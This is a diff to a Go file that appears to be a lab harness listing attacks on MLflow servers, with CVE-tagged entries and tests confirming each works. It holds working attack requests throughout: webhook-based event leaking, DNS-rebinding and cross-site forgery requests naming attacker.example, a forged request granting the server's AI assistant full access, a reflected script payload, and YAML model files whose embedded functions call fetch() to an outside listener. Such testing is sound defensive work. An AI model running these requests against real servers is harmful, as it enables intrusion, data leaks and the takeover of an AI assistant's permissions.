@@ -43,8 +43,8 @@ var mlflowForgery = []Attack{
 		Doc:   "registers a webhook that is told what everybody else registers",
 		Works: []string{"3.4.0"},
 		Steps: []Step{
-			post(api2+"/webhooks", `{"name": "lab-${nonce}", "url": "https://${listener}/hook", "events": [{"entity": "REGISTERED_MODEL", "action": "CREATED"}]}`).save("hook", "webhook.webhook_id"),
-			post(api2+"/registered-models/create", `{"name": "secret-${nonce}"}`).by(Victim),
+			post(api2+"/webhooks", `{"name": "lab-${nonce}", "url": "https://${listener}/hook", "events": [{"entity": "PROMPT", "action": "CREATED"}]}`).save("hook", "webhook.webhook_id"),
+			{Request: "POST " + api2 + "/registered-models/create\n\n" + `{"name": "secret-${nonce}", "tags": [{"key": "mlflow.prompt.is_prompt", "value": "true"}]}`, By: Victim, WaitHeard: "connection"},
 		},
 		Proof: Proof{Heard: "connection"},
 	},
@@ -63,12 +63,16 @@ var mlflowForgery = []Attack{
 		Works: []string{"2.9.2", "2.16.2", "3.4.0"},
 		Steps: []Step{{Request: "POST " + api2 + "/experiments/create\nHost: rebind.attacker.example:5000\n\n" + `{"name": "lab-${nonce}"}`}},
 		Proof: Proof{Probe: probe("GET " + api2 + "/experiments/get-by-name?experiment_name=lab-${nonce}"), Shows: "experiment_id"},
+		Check: &Check{
+			Steps: []Step{{Request: "POST " + api2 + "/experiments/create\nHost: rebind.attacker.example:5000\n\n" + `{"name": "Default"}`}},
+			Proof: Proof{Like: existsAlready},
+		},
 	},
 	{
 		ID:    "mlflow/rebinding-absolute-form",
 		CVE:   []string{"CVE-2025-14279"},
 		Doc:   "names the attacker's host in an absolute request target, and the server's in Host",
-		Works: []string{"2.9.2", "2.16.2", "3.4.0"},
+		Works: []string{"2.9.2", "2.16.2"},
 		Steps: []Step{{Request: "GET http://rebind.attacker.example" + api2 + "/experiments/get?experiment_id=0"}},
 		Proof: Proof{Answer: "artifact_location"}, ReadOnly: true,
 	},
@@ -79,6 +83,10 @@ var mlflowForgery = []Attack{
 		Works: []string{"2.8.0", "1.30.0"},
 		Steps: []Step{{Request: "POST " + ajax2 + "/experiments/create\nOrigin: https://attacker.example\nSec-Fetch-Site: cross-site\nContent-Type: text/plain\n\n" + `{"name": "lab-${nonce}"}`}},
 		Proof: Proof{Probe: probe("GET " + api2 + "/experiments/get-by-name?experiment_name=lab-${nonce}"), Shows: "experiment_id"},
+		Check: &Check{
+			Steps: []Step{{Request: "POST " + ajax2 + "/experiments/create\nOrigin: https://attacker.example\nSec-Fetch-Site: cross-site\nContent-Type: text/plain\n\n" + `{"name": "Default"}`}},
+			Proof: Proof{Like: existsAlready},
+		},
 	},
 	{
 		ID:    "mlflow/cross-site-json",
@@ -88,7 +96,7 @@ var mlflowForgery = []Attack{
 		Proof: Proof{Probe: probe("GET " + api2 + "/experiments/get-by-name?experiment_name=lab-${nonce}"), Shows: "experiment_id"},
 		Check: &Check{
 			Steps: []Step{{Request: "POST " + ajax2 + "/experiments/create\nOrigin: https://attacker.example\nContent-Type: application/json\n\n" + `{"name": "Default"}`}},
-			Proof: Proof{Answer: "RESOURCE_ALREADY_EXISTS"},
+			Proof: Proof{Like: existsAlready},
 		},
 	},
 	{
@@ -107,23 +115,19 @@ var mlflowForgery = []Attack{
 		CVE:   []string{"CVE-2026-2611"},
 		Doc:   "gives the assistant of the server, from a page of another site, the right to do anything without asking",
 		Works: []string{"3.9.0"},
-		Steps: []Step{{Request: "PUT " + ajax3 + "/mlflow/assistant/config\nOrigin: https://attacker.example\nContent-Type: application/json\n\n" + `{"providers": {"claude_code": {"model": "m-${nonce}", "permissions": {"full_access": true}}}}`}},
-		Proof: Proof{Probe: probe("GET " + ajax3 + "/mlflow/assistant/config"), Shows: "m-${nonce}"},
+		Steps: []Step{{Request: "PUT " + ajax3 + "/assistant/config\nOrigin: https://attacker.example\nContent-Type: application/json\n\n" + `{"providers": {"claude_code": {"model": "m-${nonce}", "permissions": {"full_access": true}}}}`}},
+		Proof: Proof{Probe: probe("GET " + ajax3 + "/assistant/config"), Shows: "m-${nonce}"},
 	},
 	{
 		ID:    "mlflow/assistant-behind-proxy",
 		Doc:   "reaches the assistant, which trusts whoever connects from the same machine, as everybody behind a proxy does",
 		Works: []string{"3.9.0", "new"},
-		Steps: []Step{{Request: "PUT " + ajax3 + "/mlflow/assistant/config\nContent-Type: application/json\n\n" + `{"providers": {"claude_code": {"model": "m-${nonce}", "permissions": {"full_access": true}}}}`}},
-		Proof: Proof{Probe: probe("GET " + ajax3 + "/mlflow/assistant/config"), Shows: "m-${nonce}"},
-	},
-	{
-		ID:    "mlflow/content-type-reflected",
-		CVE:   []string{"CVE-2023-6568"},
-		Doc:   "gets its own Content-Type back as part of an HTML page",
-		Works: []string{"2.8.0"}, Server: "basic-auth",
-		Steps: []Step{{Request: "POST /api/2.0/mlflow/users/create\nContent-Type: <script>alert(1)</script>\n\nx"}},
-		Proof: Proof{Inline: true},
+		Steps: []Step{{Request: "PUT " + ajax3 + "/assistant/config\nContent-Type: application/json\n\n" + `{"providers": {"claude_code": {"model": "m-${nonce}", "permissions": {"full_access": true}}}}`}},
+		Proof: Proof{Probe: probe("GET " + ajax3 + "/assistant/config"), Shows: "m-${nonce}"},
+		Check: &Check{
+			Steps: []Step{get(ajax3 + "/assistant/config")},
+			Proof: Proof{Answer: `"providers"`},
+		},
 	},
 	{
 		ID:    "mlflow/model-file-script",
@@ -146,8 +150,8 @@ flavors:
   python_function:
     loader_module: mlflow.sklearn
 signature:
-  inputs: !!js/function >-
-    function() { fetch("http://${listener}/script-${nonce}"); return "[]"; }
-  toString: !!js/function >-
-    function() { fetch("http://${listener}/script-${nonce}"); return "x"; }
+  inputs:
+    toString: !!js/function 'function() { fetch("http://${listener}/script-${nonce}"); return "[]"; }'
+  outputs:
+    toString: !!js/function 'function() { fetch("http://${listener}/script-${nonce}"); return "[]"; }'
 `
